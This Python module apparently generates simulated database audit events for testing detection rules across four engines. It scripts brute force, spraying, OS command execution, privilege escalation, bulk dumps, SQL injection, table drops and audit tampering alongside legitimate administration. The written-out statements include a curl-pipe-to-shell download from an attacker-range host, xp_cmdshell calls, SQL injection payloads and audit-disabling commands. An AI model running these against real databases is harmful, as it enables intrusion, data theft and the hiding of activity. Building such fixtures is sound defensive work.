"""Activity that a detection should find: attacks, mistakes, and an administrator's legitimate work.

Each scenario is a function that plays on a stage: one database's writer, from a given moment on. Every event
carries the scenario's name in the ledger, and the ids (of the detection catalogue) that it is meant to raise,
alone or together with its neighbours. Users and hosts differ from one scenario to the next, so that no
threshold is reached by two of them together. Attackers come from 198.51.100.0/24 and 203.0.113.0/24.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass

from demo.engines import mysql, oracle, postgresql, sqlserver
from demo.engines.clock import SECOND
from demo.engines.session import Client, Emission, Instance, Session
from demo.engines.statement import Statement
from demo.ledger import Engine


class Stage:
    """One database in the hands of a scenario; `at` is where its time stands."""

    def __init__(self, name: str, instance: Instance, open_session: Callable[..., Session], at: int) -> None:
        self.name = name
        self.engine: Engine = instance.database.engine
        self.emissions: list[Emission] = []
        self._instance = instance
        self._open = open_session
        self._at = at

    def between(self, low: int, high: int) -> int:
        return low + int(self._instance.draw() * (high - low + 1))

    def wait(self, low: float, high: float) -> None:
        """Let `low` to `high` seconds go by."""
        self._at += int((low + self._instance.draw() * (high - low)) * SECOND)

    def refused(self, client: Client, *detections: str) -> None:
        """One failed login."""
        session = self._open(self._instance, client, self._at, scenario=self.name)
        self.emissions += session.refuse(self._at, detections)

    def login(self, client: Client, *detections: str) -> Session:
        session = self._open(self._instance, client, self._at, scenario=self.name)
        self.emissions += session.connect(self._at, detections)
        self.wait(0.05, 0.4)
        return session

    def run(self, session: Session, statement: Statement, *detections: str) -> None:
        self.emissions += session.execute(statement, self._at, detections)
        self._at = session.busy_until

    def logout(self, session: Session, *detections: str) -> None:
        self.wait(0.2, 2.0)
        self.emissions += session.disconnect(self._at, detections)


@dataclass(frozen=True, slots=True)
class Scenario:
    """A play for one engine; `detections` are all that it is meant to raise on that database."""

    name: str
    engine: Engine
    detections: tuple[str, ...]
    play: Callable[[Stage], None]


# What each engine's database and its customary program are called.
_HOME: dict[Engine, tuple[str, str | None]] = {
    "postgresql": ("shop", "psql"),
    "mysql": ("travel", None),
    "oracle": ("LEDGER", "SQL*Plus"),
    "sqlserver": ("hr", "Microsoft SQL Server Management Studio - Query"),
}
_LOOK_AROUND: dict[Engine, Statement] = {
    "postgresql": postgresql.sql("DQL", "SELECT", "READ", "public.orders", "select count(*) from orders;", rows=(1, 1)),
    "mysql": mysql.sql("DQL", "select count(*) from bookings", mysql.reads("bookings"), rows=(1, 1)),
    "oracle": oracle.sql("DQL", "SELECT", "INVOICES", "select count(*) from fin.invoices"),
    "sqlserver": sqlserver.sql(
        "DQL", "SELECT", "TABLE", "Departments", "select count(*) from dbo.Departments", rows=(1, 1)
    ),
}


def _client(stage: Stage, user: str, host: str, application: str | None = "") -> Client:
    """A client of the stage's engine, with its customary program by default.

    Oracle's names are upper case.
    """
    database, customary = _HOME[stage.engine]
    return Client(
        user.upper() if stage.engine == "oracle" else user,
        customary if application == "" else application,
        host,
        database,
    )


def password_brute_force(stage: Stage) -> None:
    """An outsider tries passwords of one account until one works, looks around and leaves."""
    intruder = _client(stage, "svc_invoicing", "203.0.113.47")
    for _ in range(stage.between(12, 17)):
        stage.refused(intruder, "bruteforce-user", "bruteforce-success")
        stage.wait(1.5, 9.0)
    session = stage.login(intruder, "bruteforce-success")
    for _ in range(stage.between(1, 3)):
        stage.run(session, _LOOK_AROUND[stage.engine])
        stage.wait(3, 15)
    stage.logout(session)


def password_spray(stage: Stage) -> None:
    """One machine tries a common password on many accounts, AWS's own among them, and gets in nowhere."""
    for user in ("admin", "postgres", "sa", "backup", "test", "rdsadmin", "reporting", "dev", "support"):
        for _ in range(stage.between(1, 2)):
            stage.refused(_client(stage, user, "203.0.113.90"), "password-spray")
            stage.wait(0.8, 6.0)


def os_command(stage: Stage) -> None:
    """An account that should only read tries to run programs on the database's host."""
    session = stage.login(_client(stage, "svc_printing", "198.51.100.23"))
    for statement, detections in _OS_COMMANDS[stage.engine]:
        stage.wait(2, 20)
        stage.run(session, statement, *detections)
    stage.logout(session)


def privilege_escalation(stage: Stage) -> None:
    """A stolen operator's account makes a new login, gives it everything, and uses it."""
    session = stage.login(_client(stage, "ops_viktor", "198.51.100.61"))
    for statement, detections in _ESCALATION[stage.engine]:
        stage.wait(2, 15)
        stage.run(session, statement, *detections)
    stage.logout(session)
    stage.wait(20, 60)
    session = stage.login(_client(stage, "svc_backup9", "198.51.100.61"))
    stage.run(session, _LOOK_AROUND[stage.engine])
    stage.logout(session)


def mass_dump(stage: Stage) -> None:
    """Whole tables leave through a dump tool, or through the engine's own export."""
    application = {
        "postgresql": "pg_dump",
        "oracle": "expdp@ws-77.example.internal (TNS V1-V3)",
        "sqlserver": "bcp",
    }
    client = _client(stage, "ops_hugo", "198.51.100.130", application.get(stage.engine))
    # MySQL reports no program; there only the statements identify the tool.
    of_tool = ("dump-tool",) if stage.engine in application else ()
    session = stage.login(client, *of_tool)
    for statement, detections in _DUMP[stage.engine]:
        stage.wait(0.3, 4)
        stage.run(session, statement, *detections)
    stage.logout(session, *of_tool)


def sql_injection(stage: Stage) -> None:
    """A scanner works on one parameter of an application: errors first, then UNION, then time delays."""
    database, _ = _HOME[stage.engine]
    session = stage.login(Client("web_forms", _SCANNED_BY[stage.engine], "10.30.1.88", database))
    for statement, detections in _INJECTIONS[stage.engine]:
        for _ in range(2):
            stage.wait(0.4, 3.0)
            stage.run(session, statement, *detections)
    stage.logout(session)


def drop_burst(stage: Stage) -> None:
    """A leaving operator drops and empties one table after the other."""
    session = stage.login(_client(stage, "ops_ralf", "10.44.3.9"))
    for statement in _DROPS[stage.engine]:
        stage.wait(1, 12)
        stage.run(session, statement, "schema-drop")
    stage.logout(session)


def audit_tampering(stage: Stage) -> None:
    """A privileged user weakens the auditing before going on."""
    session = stage.login(_client(stage, "ops_iris", "10.44.3.17"))
    for statement in _TAMPERING[stage.engine]:
        stage.wait(2, 20)
        stage.run(session, statement, "audit-tamper-db")
    stage.run(session, _LOOK_AROUND[stage.engine])
    stage.logout(session)


def denied_everywhere(stage: Stage) -> None:
    """A curious colleague tries table after table and may read none of them."""
    session = stage.login(_client(stage, "temp_nina", "10.44.8.9"))
    for statement in _DENIED[stage.engine]:
        stage.wait(4, 25)
        stage.run(session, statement, "permission-denied-burst")
    stage.logout(session)


def forgotten_where(stage: Stage) -> None:
    """An UPDATE and a DELETE that should have had a WHERE."""
    session = stage.login(_client(stage, "dev_pavel", "10.44.5.33"))
    for statement in _WITHOUT_WHERE[stage.engine]:
        stage.wait(5, 40)
        stage.run(session, statement, "mass-delete")
    stage.logout(session)


def administration(stage: Stage) -> None:
    """Not an attack: a new colleague gets an account and rights, an old one loses them."""
    session = stage.login(_client(stage, "admin_ewa", "10.44.1.5"))
    for statement, detections in _ADMINISTRATION[stage.engine]:
        stage.wait(4, 30)
        stage.run(session, statement, *detections)
    stage.logout(session)


_Step = tuple[Statement, tuple[str, ...]]
_OS: tuple[str, ...] = ("os-exec",)
_GRANT: tuple[str, ...] = ()  # with the account that is made: one finding
_SUPER: tuple[str, ...] = ("superuser-grant",)
_LOGIN: tuple[str, ...] = ("new-login-user",)
_TOOL: tuple[str, ...] = ("dump-tool",)
_BULK: tuple[str, ...] = ("dump-tool", "mass-read")
_PROBE: tuple[str, ...] = ("sqli-pattern",)
_PROBE_FAILED: tuple[str, ...] = ("sqli-pattern", "sql-error-burst")
_FAILED: tuple[str, ...] = ("sql-error-burst",)

_NO_PROGRAM = (
    "42501",
    "must be superuser or have privileges of the pg_execute_server_program role to COPY to or from an external program",
)
_OS_COMMANDS: dict[Engine, Sequence[_Step]] = {
    "postgresql": (
        (postgresql.sql("DDL", "CREATE TABLE", "DDL", "public.tmp_out",
                        "CREATE TABLE tmp_out(line text);"), ()),
        (postgresql.sql("DML", "COPY", "WRITE", "public.tmp_out", "COPY tmp_out FROM PROGRAM 'id; uname -a';",
                        failed=_NO_PROGRAM), _OS),
        (postgresql.sql("DQL", "COPY", "READ", None,
                        "COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.23/x.sh | sh';",
                        failed=_NO_PROGRAM), _OS),
        (postgresql.sql("DDL", "CREATE EXTENSION", "DDL", None, "CREATE EXTENSION plpythonu;",
                        failed=("0A000", 'extension "plpythonu" is not available')), _OS),
    ),
    "mysql": (
        (mysql.sql("DQL", "select @@plugin_dir, @@secure_file_priv", objects="", rows=(1, 1)), ()),
        (mysql.sql("DDL", "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so'", objects="",
                   failed=("1123", "Can't initialize function 'sys_eval'; UDFs are unavailable")), _OS),
        (mysql.sql("DDL", "create function sys_exec returns integer soname 'udf.so'", objects="",
                   failed=("1123", "Can't initialize function 'sys_exec'; UDFs are unavailable")), _OS),
    ),
    "oracle": (
        (oracle.sql("EXEC", "EXECUTE", "DBMS_SCHEDULER",
                    "BEGIN\n  DBMS_SCHEDULER.CREATE_JOB(job_name => 'NIGHTLY_{hex8}', job_type => "
                    "'EXECUTABLE', job_action => '/bin/sh', number_of_arguments => 2, enabled => "
                    "FALSE);\nEND;", schema="SYS",
                    failed=27486), _OS),
        (oracle.sql("EXEC", "EXECUTE", "DBMS_SCHEDULER",
                    "BEGIN dbms_scheduler.create_job('J{hex8}', job_type => 'EXTERNAL_SCRIPT', job_action => "
                    "'#!/bin/sh' || chr(10) || '/usr/bin/id'); END;", schema="SYS", failed=27486), _OS),
    ),
    "sqlserver": (
        (sqlserver.sql("EXEC", "EXECUTE", "STORED PROCEDURE", "sp_configure",
                       "EXEC sp_configure 'xp_cmdshell', 1", denied=True), _OS),
        (sqlserver.sql("EXEC", "EXECUTE", "EXTENDED STORED PROCEDURE", "xp_cmdshell",
                       "exec master..xp_cmdshell 'whoami /priv'", denied=True), _OS),
        (sqlserver.sql("EXEC", "EXECUTE", "EXTENDED STORED PROCEDURE", "sp_OACreate",
                       "declare @shell int\r\nexec sp_OACreate 'wscript.shell', @shell output",
                       denied=True), _OS),
    ),
}  # fmt: skip

_ESCALATION: dict[Engine, Sequence[_Step]] = {
    "postgresql": (
        (postgresql.sql("DCL", "CREATE ROLE", "ROLE", None,
                        "CREATE USER svc_backup9 WITH PASSWORD <REDACTED>"), _LOGIN),
        (postgresql.sql("DCL", "GRANT ROLE", "ROLE", None, "GRANT rds_superuser TO svc_backup9;"), _SUPER),
        (postgresql.sql("DCL", "GRANT", "ROLE", "public.orders",
                        "GRANT SELECT, UPDATE ON ALL TABLES IN SCHEMA public TO svc_backup9;"), _GRANT),
    ),
    "mysql": (
        (mysql.sql("DCL", "CREATE USER 'svc_backup9'@'%' IDENTIFIED BY <secret>", objects=""), _LOGIN),
        (mysql.sql("DCL", "GRANT ALL PRIVILEGES ON *.* TO 'svc_backup9'@'%' WITH GRANT OPTION",
                   objects=""), _SUPER),
    ),
    "oracle": (
        (oracle.sql("DCL", "CREATE USER", "SVC_BACKUP9", "CREATE USER SVC_BACKUP9 IDENTIFIED BY *",
                    schema="SYS"), _LOGIN),
        (oracle.sql("DCL", "GRANT", None, "GRANT DBA TO SVC_BACKUP9"), _SUPER),
        (oracle.sql("DCL", "GRANT", None, "grant create session to svc_backup9"), _GRANT),
    ),
    "sqlserver": (
        (sqlserver.sql("DCL", "CREATE", "SQL LOGIN", "svc_backup9",
                       "CREATE LOGIN [svc_backup9] WITH PASSWORD = N'******', CHECK_POLICY = OFF"), _LOGIN),
        (sqlserver.sql("DCL", "CREATE", "SQL USER", "svc_backup9",
                       "CREATE USER [svc_backup9] FOR LOGIN [svc_backup9]"), _LOGIN),
        (sqlserver.sql("DCL", "ADD MEMBER", "SERVER ROLE", "sysadmin",
                       "ALTER SERVER ROLE [sysadmin] ADD MEMBER [svc_backup9]"), _SUPER),
    ),
}  # fmt: skip

_DUMP: dict[Engine, Sequence[_Step]] = {
    "postgresql": (
        (postgresql.sql("OTHER", "SET", "MISC", None, "SET statement_timeout = 0"), _TOOL),
        (postgresql.sql("DQL", "SELECT", "READ", "pg_catalog.pg_class",
                        "SELECT c.tableoid, c.oid, c.relname, c.relnamespace, c.relkind FROM pg_class c "
                        "ORDER BY c.oid",
                        rows=(420, 420)), _TOOL),
        *((postgresql.sql("DQL", "COPY", "READ", f"public.{table}",
                          f"COPY public.{table} ({columns}) TO stdout;", rows=(160_000, 480_000),
                          milliseconds=(900, 4_000)), _BULK)
          for table, columns in (
              ("orders", "order_id, customer_id, status, currency, total_amount, placed_at, comment_text"),
              ("order_lines", "line_id, order_id, product_id, quantity, unit_price, discount"),
              ("products", "product_id, sku, title, price, stock_level, category_id"))),
    ),
    "mysql": (
        (mysql.sql("DQL", "SELECT * FROM bookings INTO OUTFILE S3 's3-eu-central-1://drop-{hex8}/bookings' "
                   "FIELDS TERMINATED BY ',' OVERWRITE ON", mysql.reads("bookings"), rows=(240_000, 480_000),
                   milliseconds=(900, 4_000)), _BULK),
        (mysql.sql("DQL", "SELECT /*!40001 SQL_NO_CACHE */ * FROM `booking_legs`",
                   mysql.reads("booking_legs"), rows=(300_000, 700_000), milliseconds=(900, 4_000)), _BULK),
    ),
    "oracle": tuple(
        (oracle.sql("DQL", "SELECT", table,
                    f"SELECT /*+ NESTED_TABLE_GET_REFS */ * FROM RELATIONAL(\"FIN\".\"{table}\")",
                    milliseconds=(900, 4_000)), _TOOL)
        for table in ("GL_LINES", "GL_JOURNALS", "INVOICES")
    ),
    "sqlserver": (
        (sqlserver.sql("DQL", "SELECT", "TABLE", "TimeSheets", "SELECT * FROM [hr].[dbo].[TimeSheets]",
                       rows=(180_000, 300_000), milliseconds=(900, 4_000)), _BULK),
        (sqlserver.sql("DQL", "SELECT", "TABLE", "PayRunItems", "SELECT * FROM [hr].[dbo].[PayRunItems]",
                       rows=(140_000, 190_000), milliseconds=(900, 4_000)), _BULK),
    ),
}  # fmt: skip

_SCANNED_BY: dict[Engine, str | None] = {
    "postgresql": "forms-api",
    "mysql": None,
    "sqlserver": "forms-api",
}


def _pg_probe(text: str, failed: tuple[str, str] | None = None) -> Statement:
    if failed and failed[0] == "42601":
        return postgresql.sql("ERROR", "ERROR", "MISC", None, text, failed=failed)
    return postgresql.sql("DQL", "SELECT", "READ", "public.form_answers", text, rows=(0, 3), failed=failed)


def _my_probe(text: str, failed: tuple[str, str] | None = None) -> Statement:
    return mysql.sql("DQL", text, objects="" if failed else "form_answers", rows=(0, 3), failed=failed)


def _ms_probe(text: str) -> Statement:
    return sqlserver.sql("DQL", "SELECT", "TABLE", "FormAnswers", text, rows=(0, 3))


_PG_UNION = ("42601", "each UNION query must have the same number of columns")
_PG_OPEN = ("42601", 'unterminated quoted string at or near "\' LIMIT 10"')
_MY_UNION = ("1222", "The used SELECT statements have a different number of columns")
_MY_SYNTAX = (
    "1064",
    "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version "
    "for the right syntax to use near '''' at line 1",
)
_PROBED = "SELECT answer FROM form_answers WHERE form_id = "

_INJECTIONS: dict[Engine, Sequence[_Step]] = {
    "postgresql": (
        (_pg_probe(f"{_PROBED}'{{few}}'' LIMIT 10", _PG_OPEN), _FAILED),
        (_pg_probe(f"{_PROBED}'{{few}}\")' LIMIT 10 OFFSET",
                   ("42601", "syntax error at end of input")), _FAILED),
        (_pg_probe(f"{_PROBED}'{{few}}') ORDER BY 12-- -' LIMIT 10",
                   ("42601", 'syntax error at or near ")"')), _FAILED),
        (_pg_probe(f"{_PROBED}'{{few}}' ORDER BY 30-- -' LIMIT 10",
                   ("42P10", "ORDER BY position 30 is not in select list")), _FAILED),
        *((_pg_probe(f"{_PROBED}'{{few}}' UNION ALL SELECT {', '.join(['NULL'] * count)}-- -' LIMIT 10",
                    _PG_UNION), _PROBE_FAILED) for count in (2, 3, 4, 5, 6, 7)),
        (_pg_probe(f"{_PROBED}'{{few}}' AND CAST((SELECT version()) AS int)=1-- -'",
                   ("22P02", 'invalid input syntax for type integer: "PostgreSQL 14.7"')), _FAILED),
        (_pg_probe(f"{_PROBED}'{{few}}' OR 1=1-- -' LIMIT 10"), _PROBE),
        (_pg_probe(f"{_PROBED}'{{few}}' UNION ALL SELECT NULL-- -' LIMIT 10"), _PROBE),
        (_pg_probe(f"{_PROBED}'{{few}}' AND (SELECT 4711 FROM pg_sleep(5)) IS NOT NULL-- -'"), _PROBE),
    ),
    "mysql": (
        (_my_probe(f"{_PROBED}'{{few}}'' LIMIT 10", _MY_SYNTAX), _FAILED),
        (_my_probe(f"{_PROBED}'{{few}}\")' LIMIT 10 OFFSET", _MY_SYNTAX), _FAILED),
        (_my_probe(f"{_PROBED}'{{few}}') ORDER BY 12-- -' LIMIT 10", _MY_SYNTAX), _FAILED),
        (_my_probe(f"{_PROBED}'{{few}}' PROCEDURE x()-- -'", _MY_SYNTAX), _FAILED),
        *((_my_probe(f"{_PROBED}'{{few}}' UNION ALL SELECT {', '.join(['NULL'] * count)}-- -' LIMIT 10",
                    _MY_UNION), _PROBE_FAILED) for count in (2, 3, 4, 5, 6, 7)),
        (_my_probe(f"{_PROBED}'{{few}}' AND EXTRACTVALUE({{batch}}, CONCAT(0x5c, VERSION()))-- -'",
                   ("1105", "XPATH syntax error: '\\5.7.12'")), _PROBE_FAILED),
        (_my_probe(f"{_PROBED}'{{few}}' OR 1=1-- -' LIMIT 10"), _PROBE),
        (_my_probe(f"{_PROBED}'{{few}}' UNION ALL SELECT NULL-- -' LIMIT 10"), _PROBE),
        (_my_probe(f"{_PROBED}'{{few}}' AND SLEEP(5)-- -'"), _PROBE),
    ),
    "sqlserver": (
        (_ms_probe(f"{_PROBED}'{{few}}' OR 1=1-- -'"), _PROBE),
        (_ms_probe(f"{_PROBED}'{{few}}' UNION ALL SELECT NULL-- -'"), _PROBE),
        (_ms_probe(f"{_PROBED}'{{few}}' UNION ALL SELECT NULL, NULL-- -'"), _PROBE),
        (_ms_probe(f"{_PROBED}'{{few}}'; WAITFOR DELAY '0:0:5'-- -'"), _PROBE),
    ),
}  # fmt: skip

_TABLES = ("archive_2027", "archive_2028", "archive_2029", "campaigns", "gift_cards", "wish_lists")
_EMPTIED = ("search_log", "click_log")
_DROPS: dict[Engine, Sequence[Statement]] = {
    "postgresql": (
        *(postgresql.sql("DDL", "DROP TABLE", "DDL", f"public.{table}", f"DROP TABLE {table} CASCADE;")
          for table in _TABLES),
        *(postgresql.sql("DDL", "TRUNCATE TABLE", "WRITE", f"public.{table}", f"TRUNCATE TABLE {table};")
          for table in _EMPTIED),
    ),
    "mysql": (
        *(mysql.sql("DDL", f"DROP TABLE IF EXISTS {table}", mysql.drops(table)) for table in _TABLES),
        *(mysql.sql("DDL", f"TRUNCATE TABLE {table}", mysql.drops(table), mysql.creates(table))
          for table in _EMPTIED),
    ),
    "oracle": (
        *(oracle.sql("DDL", "DROP TABLE", table.upper(),
                     f"DROP TABLE FIN.{table.upper()} CASCADE CONSTRAINTS PURGE")
          for table in _TABLES),
        *(oracle.sql("DDL", "TRUNCATE TABLE", table.upper(),
                     f"truncate table fin.{table}") for table in _EMPTIED),
    ),
    "sqlserver": (
        *(sqlserver.sql("DDL", "DROP", "TABLE", table,
                        f"DROP TABLE [hr].[dbo].[{table}]") for table in _TABLES),
        *(sqlserver.sql("DDL", "ALTER", "TABLE", table,
                        f"TRUNCATE TABLE [hr].[dbo].[{table}]") for table in _EMPTIED),
    ),
}  # fmt: skip

_TAMPERING: dict[Engine, Sequence[Statement]] = {
    "postgresql": (
        postgresql.sql("OTHER", "SET", "MISC", None, "SET pgaudit.log = 'none';"),
        postgresql.sql("OTHER", "SET", "MISC", None, "SET log_statement = 'none';",
                       failed=("42501", 'permission denied to set parameter "log_statement"')),
        postgresql.sql("DDL", "ALTER DATABASE", "DDL", None,
                       "ALTER DATABASE shop SET pgaudit.log TO 'none';"),
    ),
    "mysql": (
        mysql.sql("OTHER", "SET GLOBAL server_audit_logging = OFF", objects="",
                  failed=("1238", "Variable 'server_audit_logging' is a read only variable")),
        mysql.sql("OTHER", "set global server_audit_events = ''", objects="",
                  failed=("1238", "Variable 'server_audit_events' is a read only variable")),
    ),
    "oracle": (
        # Oracle counts NOAUDIT among its data definition statements, as it does the DROP of a policy.
        oracle.sql("DDL", "NOAUDIT", None, "NOAUDIT POLICY ledger_actions"),
        oracle.sql("DDL", "DROP AUDIT POLICY", "LEDGER_ACTIONS",
                   "DROP AUDIT POLICY ledger_actions", schema="SYS"),
    ),
    "sqlserver": (
        sqlserver.sql("DDL", "ALTER", "SERVER AUDIT SPECIFICATION", "RDS_DAS_SERVER_AUDIT_SPEC",
                      "ALTER SERVER AUDIT SPECIFICATION [RDS_DAS_SERVER_AUDIT_SPEC] WITH (STATE = OFF)"),
        sqlserver.sql("DDL", "ALTER", "SERVER AUDIT", "RDS_DAS_AUDIT",
                      "ALTER SERVER AUDIT [RDS_DAS_AUDIT] WITH (STATE = OFF)"),
    ),
}  # fmt: skip

_OUT_OF_BOUNDS = (
    "board_minutes", "bonus_plan", "card_vault", "contracts", "health_notes", "investigations", "legal_holds",
    "lay_off_list", "mergers", "partners", "salary_bands", "union_talks", "vault_keys",
)  # fmt: skip
_DENIED: dict[Engine, Sequence[Statement]] = {
    "postgresql": tuple(
        postgresql.sql("DQL", "SELECT", "READ", f"private.{table}", f"select * from private.{table} limit 5;",
                       failed=("42501", f"permission denied for table {table}"))
        for table in _OUT_OF_BOUNDS
    ),
    "mysql": tuple(
        mysql.sql("DQL", f"select * from private.{table} limit 5", objects=table,
                  failed=("1142", f"SELECT command denied to user 'temp_nina'@'10.44.8.9' for '{table}'"))
        for table in _OUT_OF_BOUNDS
    ),
    "oracle": tuple(
        oracle.sql("DQL", "SELECT", table.upper(), f"select * from private.{table}", schema="PRIVATE",
                   failed=1031 if number % 2 else 942)
        for number, table in enumerate(_OUT_OF_BOUNDS)
    ),
    "sqlserver": tuple(
        sqlserver.sql("DQL", "SELECT", "TABLE", table, f"select top 5 * from private.{table}", denied=True)
        for table in _OUT_OF_BOUNDS
    ),
}  # fmt: skip

_WITHOUT_WHERE: dict[Engine, Sequence[Statement]] = {
    "postgresql": (
        postgresql.sql("DML", "UPDATE", "WRITE", "public.carts", "update carts set closed_at = now();",
                       rows=(52_000, 61_000), milliseconds=(400, 900)),
        postgresql.sql("DML", "DELETE", "WRITE", "public.order_notes", "delete from order_notes;",
                       rows=(20_000, 31_000), milliseconds=(400, 900)),
    ),
    "mysql": (
        mysql.sql("DML", "update web_sessions set payload = null", mysql.writes("web_sessions"),
                  rows=(52_000, 61_000), milliseconds=(400, 900)),
        mysql.sql("DML", "DELETE FROM fare_updates", mysql.writes("fare_updates"), rows=(20_000, 31_000),
                  milliseconds=(400, 900)),
    ),
    "oracle": (
        oracle.sql("DML", "UPDATE", "SUPPLIER_NOTES", "update fin.supplier_notes set body = null"),
        oracle.sql("DML", "DELETE", "GL_IMPORT_ERRORS", "delete from fin.gl_import_errors"),
    ),
    "sqlserver": (
        sqlserver.sql("DML", "UPDATE", "TABLE", "TimeSheets", "update dbo.TimeSheets set Remark = null",
                      rows=(52_000, 61_000)),
        sqlserver.sql("DML", "DELETE", "TABLE", "PayRunItems",
                      "delete dbo.PayRunItems", rows=(20_000, 31_000)),
    ),
}  # fmt: skip

_ADMINISTRATION: dict[Engine, Sequence[_Step]] = {
    "postgresql": (
        (postgresql.sql("DCL", "CREATE ROLE", "ROLE", None,
                        "CREATE USER support_mei WITH PASSWORD <REDACTED> VALID UNTIL '2032-01-01';"),
                        _LOGIN),
        (postgresql.sql("DCL", "GRANT", "ROLE", "public.orders",
                        "GRANT SELECT ON orders, order_lines TO support_mei;"), _GRANT),
        (postgresql.sql("DCL", "ALTER ROLE", "ROLE", None,
                        "ALTER ROLE support_mei SET search_path = public;"), _GRANT),
        (postgresql.sql("DCL", "REVOKE", "ROLE", "public.orders",
                        "REVOKE ALL ON orders FROM support_old;"), _GRANT),
        (postgresql.sql("DCL", "DROP ROLE", "ROLE", None, "DROP ROLE support_old;"), _GRANT),
        (postgresql.sql("DCL", "DROP ROLE", "ROLE", None, "DROP ROLE support_older;",
                        failed=("42704", 'role "support_older" does not exist')), ()),
    ),
    "mysql": (
        (mysql.sql("DCL",
                   "CREATE USER 'support_mei'@'10.41.7.%' IDENTIFIED BY <secret>", objects=""), _LOGIN),
        (mysql.sql("DCL", "GRANT SELECT, UPDATE (note) ON travel.bookings TO 'support_mei'@'10.41.7.%'",
                   objects="bookings"), _GRANT),
        (mysql.sql("DCL", "REVOKE SELECT ON travel.* FROM 'support_old'@'10.41.7.%'", objects=""), _GRANT),
        (mysql.sql("DCL", "/* offboarding */ DROP USER 'support_old'@'10.41.7.%'", objects=""), _GRANT),
        (mysql.sql("DCL", "ALTER USER 'support_mei'@'10.41.7.%' ACCOUNT LOCK", objects=""), _GRANT),
        (mysql.sql("DCL", "DROP USER 'support_older'@'%'", objects="",
                   failed=("1396", "Operation DROP USER failed for 'support_older'@'%'")), ()),
    ),
    "oracle": (
        (oracle.sql("DCL", "CREATE USER", "AUDIT_MEI",
                    "CREATE USER AUDIT_MEI IDENTIFIED BY * QUOTA 10M ON USERS", schema="SYS"), _LOGIN),
        (oracle.sql("DCL", "CREATE ROLE", "LEDGER_READERS",
                    "CREATE ROLE LEDGER_READERS", schema="SYS"), _GRANT),
        (oracle.sql("DCL", "GRANT", "GL_LINES", "GRANT SELECT ON FIN.GL_LINES TO LEDGER_READERS"), _GRANT),
        (oracle.sql("DCL", "REVOKE", "INVOICES", "REVOKE SELECT ON FIN.INVOICES FROM AUDIT_OLD"), _GRANT),
        (oracle.sql("DCL", "ALTER USER", "AUDIT_OLD",
                    "ALTER USER AUDIT_OLD ACCOUNT LOCK", schema="SYS"), _GRANT),
        (oracle.sql("DCL", "DROP USER", "AUDIT_OLDER",
                    "DROP USER AUDIT_OLDER", schema="SYS", failed=1918), ()),
    ),
    "sqlserver": (
        (sqlserver.sql("DCL", "CREATE", "SQL LOGIN", "support_mei",
                       "CREATE LOGIN [support_mei] WITH PASSWORD = N'******' MUST_CHANGE, CHECK_EXPIRATION "
                       "= ON"), _LOGIN),
        (sqlserver.sql("DCL", "CREATE", "SQL USER", "support_mei",
                       "CREATE USER [support_mei] FOR LOGIN [support_mei]"), _LOGIN),
        (sqlserver.sql("DCL", "GRANT", "TABLE", "TimeSheets",
                       "GRANT SELECT ON [dbo].[TimeSheets] TO [support_mei]"),
         _GRANT),
        (sqlserver.sql("DCL", "DENY", "TABLE", "PaySlips",
                       "DENY SELECT ON [dbo].[PaySlips] TO [support_mei]"), _GRANT),
        (sqlserver.sql("DCL", "REVOKE", "TABLE", "TimeSheets",
                       "REVOKE SELECT ON [dbo].[TimeSheets] FROM [support_old]"),
         _GRANT),
        (sqlserver.sql("DCL", "ADD MEMBER", "ROLE", "payroll_readers",
                       "ALTER ROLE [payroll_readers] ADD MEMBER [support_mei]"), _GRANT),
    ),
}  # fmt: skip


def _of_engine(engine: Engine) -> tuple[Scenario, ...]:
    """Every scenario that the engine can show, with all that it is meant to raise there."""
    ledger = engine == "oracle"  # Oracle reports no row counts and no messages
    plays: list[tuple[Callable[[Stage], None], tuple[str, ...]]] = [
        (administration, ("new-login-user",)),
        (password_brute_force, ("bruteforce-success", "bruteforce-user")),
        (password_spray, ("password-spray",)),
        (os_command, ("os-exec",)),
        (privilege_escalation, ("new-login-user", "superuser-grant")),
        (mass_dump, ("dump-tool",) if ledger else ("dump-tool", "mass-read")),
        (drop_burst, ("schema-drop",)),
        (audit_tampering, ("audit-tamper-db",)),
        (denied_everywhere, ("permission-denied-burst",)),
        (forgotten_where, ("mass-delete",)),
    ]
    if engine in ("postgresql", "mysql"):
        plays.append((sql_injection, ("sql-error-burst", "sqli-pattern")))
    elif engine == "sqlserver":
        plays.append((sql_injection, ("sqli-pattern",)))
    return tuple(Scenario(play.__name__.replace("_", "-"), engine, detections, play) for play, detections in plays)


EVERY_SCENARIO: tuple[Scenario, ...] = tuple(
    scenario for engine in ("postgresql", "mysql", "oracle", "sqlserver") for scenario in _of_engine(engine)
)

# The demo's choice: every scenario somewhere, none everywhere.
_SHOWN: dict[str, tuple[Engine, ...]] = {
    "administration": ("postgresql", "mysql", "oracle", "sqlserver"),
    "password-brute-force": ("postgresql", "mysql"),
    "password-spray": ("sqlserver", "oracle"),
    "os-command": ("postgresql", "sqlserver"),
    "privilege-escalation": ("postgresql", "oracle"),
    "mass-dump": ("postgresql", "mysql"),
    "sql-injection": ("mysql",),
    "drop-burst": ("oracle", "sqlserver"),
    "audit-tampering": ("postgresql", "sqlserver"),
    "denied-everywhere": ("mysql",),
    "forgotten-where": ("sqlserver",),
}
SCENARIOS: tuple[Scenario, ...] = tuple(
    scenario for scenario in EVERY_SCENARIO if scenario.engine in _SHOWN[scenario.name]
)
